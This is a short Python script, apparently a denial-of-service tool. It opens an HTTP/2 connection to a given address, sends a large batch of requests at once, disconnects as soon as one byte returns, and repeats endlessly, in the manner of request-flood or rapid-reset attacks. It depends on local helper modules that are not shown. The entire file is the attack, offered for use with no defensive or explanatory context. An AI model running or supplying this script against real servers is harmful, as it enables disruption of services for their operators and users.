"""hit_and_run ADDRESS CALLS METHOD: connect, begin so many calls, leave as soon as a byte comes back, and again."""

import sys

import h2
import stranger

address, calls, method = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
stranger.become()
flood = b"".join(h2.call(2 * number + 1, method) for number in range(calls))


def once() -> None:
    try:
        with h2.connect(address) as peer:
            peer.sendall(flood)
            peer.recv(1)
    except OSError:
        pass


once()
stranger.at_work()
while True:
    once()
